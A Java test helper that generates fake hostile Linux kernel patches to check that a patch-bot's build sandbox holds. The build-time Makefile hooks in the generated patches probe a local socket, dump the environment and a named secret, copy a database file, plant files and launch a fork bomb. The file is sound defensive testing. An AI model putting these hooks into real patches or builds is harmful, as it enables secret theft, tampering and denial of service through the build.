package org.fsnbot.testing;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;

/**
 * fsnbot's own hostile patches (not real ones). One kind's
 * fs/notify/Makefile runs a script at build time that tries what a hostile
 * sender would, each attempt reporting on stderr prefixed "fsnbot-hostile:"
 * so the build log says how far it got. The other kind's
 * arch/x86/boot/Makefile runs a script right after the kernel image is
 * made, with its name: it can leave there whatever it likes for fsnbot to
 * read back.
 */
public final class HostilePatch {

    public static final String SAY = "fsnbot-hostile:";

    /** What the attack script aims at: a listener, a secret, the database, and places it must not write. */
    public record Targets(int port, String secretVariable, Path database, List<Path> plantIn) {
        public Targets {
            plantIn = List.copyOf(plantIn);
        }
    }

    private HostilePatch() {
    }

    /** The attack patch: connect, read secrets and the database, plant files, then fork-bomb. */
    public static Path write(Path dir, Targets t) throws IOException {
        List<String> script = new ArrayList<>(List.of(
                "say() { echo \"" + SAY + " $*\" >&2; }",
                // The start names this run: a test reads back the log of its own build, not an earlier run's.
                "say start " + dir.getFileName(),
                "if bash -c 'exec 3<>/dev/tcp/127.0.0.1/" + t.port() + "' 2>/dev/null; then say connect: reached;"
                        + " else say connect: refused; fi",
                "say secret: ${" + t.secretVariable() + ":-not in the environment}",
                "env | sort >&2",
                "if cat " + t.database() + " > stolen-db 2>/dev/null; then say database: copied; else say database:"
                        + " not readable; fi"));
        for (Path p : t.plantIn()) {
            Path target = p.resolve("fsnbot-planted");
            script.add("if echo planted > " + target + " 2>/dev/null; then say wrote " + target
                    + "; else say could not write " + target + "; fi");
        }
        script.add("i=0; while [ $i -lt 100000 ]; do sleep 120 </dev/null >/dev/null 2>&1 & i=$((i+1)); done");
        script.add("say fork bomb ended after $i");
        return atBuildTime(dir, "hostile", "hostile build", script);
    }

    /** A patch whose fs/notify/Makefile runs script (sh) when make reads it, in the object directory. */
    public static Path atBuildTime(Path dir, String name, String what, List<String> script) throws IOException {
        List<String> diff = new ArrayList<>(List.of(
                "diff --git a/fs/notify/Makefile b/fs/notify/Makefile",
                "--- a/fs/notify/Makefile",
                "+++ b/fs/notify/Makefile",
                "@@ -1,4 +1,5 @@",
                " # SPDX-License-Identifier: GPL-2.0",
                "+$(shell sh $(srctree)/fs/notify/" + name + ".sh)",
                " obj-$(CONFIG_FSNOTIFY)\t\t+= fsnotify.o notification.o group.o mark.o \\",
                " \t\t\t\t   fdinfo.o",
                " "));
        diff.addAll(newFile("fs/notify/" + name + ".sh", script));
        return mail(dir, name, what, diff);
    }

    /**
     * A patch whose arch/x86/boot/Makefile runs script (sh, with the image's
     * path as $1) right after the kernel image is made: make succeeds with
     * whatever the script leaves there.
     */
    public static Path afterTheImage(Path dir, String name, String what, List<String> script) throws IOException {
        List<String> diff = new ArrayList<>(List.of(
                "diff --git a/arch/x86/boot/Makefile b/arch/x86/boot/Makefile",
                "--- a/arch/x86/boot/Makefile",
                "+++ b/arch/x86/boot/Makefile",
                "@@ -68,5 +68,6 @@ cmd_image = $(obj)/tools/build $(obj)/setup.bin $(obj)/vmlinux.bin \\",
                " $(obj)/bzImage: $(obj)/setup.bin $(obj)/vmlinux.bin $(obj)/tools/build FORCE",
                " \t$(call if_changed,image)",
                " \t@$(kecho) 'Kernel: $@ is ready' ' (#'$(or $(KBUILD_BUILD_VERSION),`cat .version`)')'",
                "+\t@sh $(srctree)/fs/notify/" + name + ".sh $@",
                " ",
                " OBJCOPYFLAGS_vmlinux.bin := -O binary -R .note -R .comment -S"));
        diff.addAll(newFile("fs/notify/" + name + ".sh", script));
        return mail(dir, name, what, diff);
    }

    private static List<String> newFile(String path, List<String> lines) {
        List<String> out = new ArrayList<>(List.of(
                "diff --git a/" + path + " b/" + path,
                "new file mode 100644",
                "--- /dev/null",
                "+++ b/" + path,
                "@@ -0,0 +1," + lines.size() + " @@"));
        lines.forEach(l -> out.add("+" + l));
        return out;
    }

    private static Path mail(Path dir, String name, String what, List<String> diff) throws IOException {
        StringBuilder mail = new StringBuilder(String.join("\n",
                "From fsnbot Mon Sep 17 00:00:00 2001",
                "From: Hostile Sender <hostile@example.org>",
                "To: linux-fsdevel@vger.kernel.org",
                "Date: Mon, 30 Nov 2026 09:00:00 +0000",
                "Message-ID: <20261130090000.1-fsnbot-" + name + "@fsnbot.invalid>",
                "Subject: [PATCH] fsnotify: " + what + " (fsnbot's sandbox test)",
                "",
                "This patch exists to prove fsnbot's sandbox. Do not apply it.",
                "",
                "Signed-off-by: Hostile Sender <hostile@example.org>",
                "---",
                ""));
        diff.forEach(l -> mail.append(l).append('\n'));
        mail.append("-- \n2.39.5\n");
        Files.createDirectories(dir);
        return Files.writeString(dir.resolve(name + ".mbox"), mail.toString());
    }
}
